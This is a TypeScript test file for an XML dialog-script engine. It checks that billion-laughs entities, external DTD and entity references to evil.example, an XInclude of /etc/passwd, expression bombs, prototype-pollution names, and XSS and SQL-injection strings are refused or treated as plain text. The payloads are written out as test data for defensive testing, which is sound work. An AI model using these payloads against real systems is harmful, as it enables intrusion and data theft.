import { compile } from '@caruso/expressions';
import { XmlDocument } from 'libxml2-wasm';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { compileScripts } from './link.js';
import { promptOf } from './prompt.js';
import { read } from './read.js';
import { decideAnswer } from './session.js';
import type { SessionEvent } from './session-event.js';
import { replay, type SessionState } from './state.js';
import { plainText } from './text.js';
import { view } from './view.js';

afterEach(() => vi.restoreAllMocks());

const setting = { locale: 'en-GB', timezone: 'Europe/Amsterdam', currency: 'EUR' };
const at = '2026-03-02T09:00:00.000Z';
const begin: SessionEvent = {
  type: 'started',
  at,
  channel: 'web',
  language: 'en',
  params: {},
  starter: 'x',
  interaction: null,
};
const script = (steps: string, head = '') =>
  `<script id="x" version="1" xml:lang="en" schema="1.1" channels="web">${head}<section id="s">${steps}<end id="e" outcome="o"><say>Bye.</say></end></section></script>`;
const codes = (text: string) => compileScripts([{ path: 'x.xml', text }])[0]?.faults.map(({ code }) => code);

function started(text: string): SessionState {
  const [compiled] = compileScripts([{ path: 'x.xml', text }]);
  if (compiled?.program === undefined) throw new Error(JSON.stringify(compiled?.faults));
  return replay(compiled.program, 's', [begin], setting);
}

function answered(state: SessionState, answers: Record<string, unknown>): SessionState {
  return decideAnswer(state, answers, { message: 'm', at }).reduce((now, event) => now.advance(event), state);
}

describe('hostile XML is refused before any parser sees it, or bounded by what may be in it', () => {
  const root = script('');
  const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
  it.each([
    ['10 MB', `${root}${' '.repeat(10_000_000)}`, 'SCRIPT_TOO_LARGE'],
    ['a billion laughs', `<!DOCTYPE script [<!ENTITY l0 "ha">${laughs}]>${root}`, 'SCRIPT_ENTITIES_REFUSED'],
    [
      'one large entity, often',
      `<!DOCTYPE script [<!ENTITY a "${'a'.repeat(50_000)}">]>${root}`,
      'SCRIPT_ENTITIES_REFUSED',
    ],
    [
      'a parameter entity',
      '<!DOCTYPE script [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><script/>',
      'SCRIPT_ENTITIES_REFUSED',
    ],
    [
      'a DTD of somebody else',
      '<!DOCTYPE script SYSTEM "http://evil.example/dialog-script.dtd?"><script/>',
      'SCRIPT_DOCTYPE',
    ],
    ['a public one', '<!DOCTYPE script PUBLIC "a" "http://evil.example/x"><script/>', 'SCRIPT_DOCTYPE'],
  ])('%s', (_what, text, code) => {
    const parse = vi.spyOn(XmlDocument, 'fromString');
    expect(codes(text)).toEqual([code]);
    expect(parse).not.toHaveBeenCalled();
  });

  it('includes, instructions and foreign namespaces bring nothing in', () => {
    const include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>';
    const { faults, root: tree } = read(script(include), 'x.xml');
    expect(faults.map(({ code }) => code)).toContain('SCRIPT_ELEMENT_UNKNOWN');
    expect(JSON.stringify([...(tree?.attributes.keys() ?? [])])).not.toContain('root:');
    expect(codes(`<?xml-stylesheet href="file:///etc/passwd"?>${root}`)).toEqual([]);
  });

  it('more steps than any dialog has are not looked at', () => {
    const steps = (count: number) => '<set name="v" expr="1"/>'.repeat(count);
    const head = '<var name="v" type="integer"/>';
    expect(codes(script(steps(999), head))).toEqual([]);
    expect(codes(script(steps(1000), head))).toEqual(['SCRIPT_TOO_LARGE']);
  });

  it('a thousand attributes, elements within elements, and a very long name', () => {
    const many = Array.from({ length: 1000 }, (_, n) => `a${n}="x"`).join(' ');
    expect(new Set(codes(`<script ${many}/>`))).toContain('SCRIPT_ATTRIBUTE_UNKNOWN');
    expect(codes(`<script>${'<em>'.repeat(50)}${'</em>'.repeat(50)}</script>`)).toEqual(['SCRIPT_TOO_DEEP']);
    expect(codes(script(`<info id="${'a'.repeat(60_000)}"><say>x</say></info>`))).not.toContain('SCRIPT_CONTENT');
  });
});

describe('expression bombs', () => {
  const condition = (text: string) => script(`<info id="i" if="${text}"><say>x</say></info>`);
  it.each([
    ['too long', `1 = ${'1 + '.repeat(700)}1`],
    ['too deep', `${'('.repeat(200)}true${')'.repeat(200)}`],
    ['too many parts', `1 in [${'1,'.repeat(600)}1]`],
  ])('%s are refused when the script is compiled', (_what, text) => {
    expect(codes(condition(text))).toEqual(['EXPRESSION_LIMIT']);
  });

  it('rounds within rounds stop at a number of elements, and the session is as it was', () => {
    const list = `[${Array.from({ length: 30 }, (_, n) => n).join(',')}]`;
    const bomb = ['a', 'b', 'c', 'd'].reduceRight((inner, name) => `${list}.all(${name}, ${inner})`, 'true');
    const state = started(
      script(
        `<question id="q" name="go" type="boolean" required="yes"><say>?</say></question><info id="i" if="${bomb}"><say>x</say></info>`,
      ),
    );
    const spent = vi.fn();
    try {
      answered(state, { go: true });
    } catch (error) {
      spent(String(error));
    }
    expect(spent).toHaveBeenCalledWith(expect.stringContaining('more than 10000 list elements'));
    expect(state.path.present?.visit).toBe('q#1');
    expect(state.events).toHaveLength(1);
  });

  it('a text that doubles itself stops at a length, a loop that asks nobody at a number of steps', () => {
    const doubling = '<loop id="l" while="true" max="1000"><set name="v" expr="v + v"/></loop>';
    const text = '<var name="v" type="text" expr="\'aaaaaaaaaa\'"/>';
    expect(() => started(script(doubling, text))).toThrow(/longer than 200000/);
    const turning = ['a', 'b', 'c'].reduceRight(
      (inner, name) => `<loop id="${name}" while="true" max="1000">${inner}</loop>`,
      '<set name="v" expr="1"/>',
    );
    expect(() => started(script(turning, '<var name="v" type="integer"/>'))).toThrow(/more than 20000 steps/);
  });

  it('a pattern is matched without going back and forth', () => {
    const compiled = compile(`like(t, '${'%a'.repeat(200)}b')`, { variables: { t: 'text' } });
    if (!compiled.ok) throw new Error('it compiles');
    const value = 'a'.repeat(100_000);
    expect(compiled.expression.evaluate({ t: value }, { now: new Date(at), timezone: 'UTC' })).toBe(false);
  });

  it.each(['process.exit()', "constructor.constructor('return 1')()", 'this.x', '__proto__.x = 1', 'globalThis'])(
    '%s is no name an expression knows',
    (text) => {
      expect(codes(condition(text))?.length).toBeGreaterThan(0);
    },
  );
});

describe('hostile values', () => {
  const asking = script(
    `<question id="q" name="who" type="text" required="yes"><say>Who?</say></question><info id="i"><say>Hello <value of="who"/>!</say></info>`,
  );
  it.each([
    '<script>alert(1)</script>',
    '<value of="session.id"/>&lt;&amp;',
    '{{constructor}} ${process.env} <%= 1 %>',
    ']]><!--',
    '\u202e\u2028x',
    "' or 1 = 1 --",
  ])('%s is a text like any other: nothing in it is read', (who) => {
    const state = answered(started(asking), { who });
    const { step } = view(state);
    expect(step?.text.map(({ kind }) => kind)).toEqual(['plain', 'value', 'plain']);
    expect(plainText(step?.text ?? [])).toContain(who.trim());
    expect(promptOf(view(state, 'chat'))).toContain('Hello');
  });

  it('names of what every object has are no answers', () => {
    const state = started(asking);
    const evil = JSON.parse(
      '{"__proto__": {"who": "x"}, "constructor": "x", "toString": "x", "who": "Vera"}',
    ) as Record<string, unknown>;
    const after = answered(state, evil);
    expect(after.path.present?.step.id).toBe('q');
    expect(view(after)).toMatchObject({
      answers: [],
      step: { errors: expect.arrayContaining(['This was not asked here: constructor']) },
    });
    expect(({} as Record<string, unknown>)['who']).toBeUndefined();
  });

  it.each([
    ['a sign no text has', 'x\u0000y'],
    ['a million characters', 'a'.repeat(1_000_000)],
    ['a tree', { a: { b: [] } }],
    ['a list', [1, [2]]],
  ])('%s is refused with words, not with an exception', (_what, who) => {
    const after = answered(started(asking), { who });
    expect(after.path.present?.step.id).toBe('q');
    expect(view(after).step?.questions[0]?.errors).toHaveLength(1);
  });
});
